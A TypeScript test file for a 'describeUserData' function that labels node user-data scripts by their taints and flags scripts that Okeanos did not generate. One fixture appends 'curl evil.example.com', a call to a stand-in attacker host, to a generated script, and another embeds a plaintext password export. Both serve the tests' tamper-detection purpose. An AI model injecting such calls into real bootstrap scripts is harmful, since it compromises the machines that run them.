import { describeUserData, userDataFor } from './nodeStart';

const taint = { key: 'batch', value: 'yes', effect: 'NoSchedule' };
const base64 = (text: string) => Buffer.from(text).toString('base64');

it.each([
  ['nothing', undefined, undefined],
  ['taints', userDataFor([taint]), 'taints batch=yes:NoSchedule'],
  ['none any more', userDataFor([]), 'no taints'],
  [
    'what others made, of which nothing is told',
    base64('#!/bin/bash\nexport PASSWORD=secret'),
    'a script that Okeanos did not make',
  ],
  [
    'that ours was added to',
    base64(
      `${Buffer.from(userDataFor([taint]), 'base64')}curl evil.example.com`,
    ),
    'a script that Okeanos did not make',
  ],
])('tells %s', (_what, userData, told) => {
  expect(describeUserData(userData)).toBe(told);
});
